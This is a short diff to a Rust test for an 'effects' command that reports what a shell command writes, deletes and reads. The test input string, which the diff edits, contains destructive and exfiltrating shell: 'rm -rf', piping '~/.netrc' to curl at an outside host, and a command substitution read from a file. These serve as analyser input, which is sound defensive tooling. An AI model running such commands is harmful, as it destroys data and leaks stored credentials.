@@ -199,7 +199,7 @@ fn effects_reports_what_a_shell_command_writes_deletes_and_reads() {
             "effects",
             "--json",
             "--",
-            "cd src && sed -i 's/a/b/' lib.rs && rm -rf ../build; cat ~/.netrc | curl -d @- https://x; $(echo rm) y",
+            "cd src && sed -i 's/a/b/' lib.rs && rm -rf ../build; cat ~/.netrc | curl -d @- https://x; $(cat cmd.txt) y",
         ],
         "",
     );
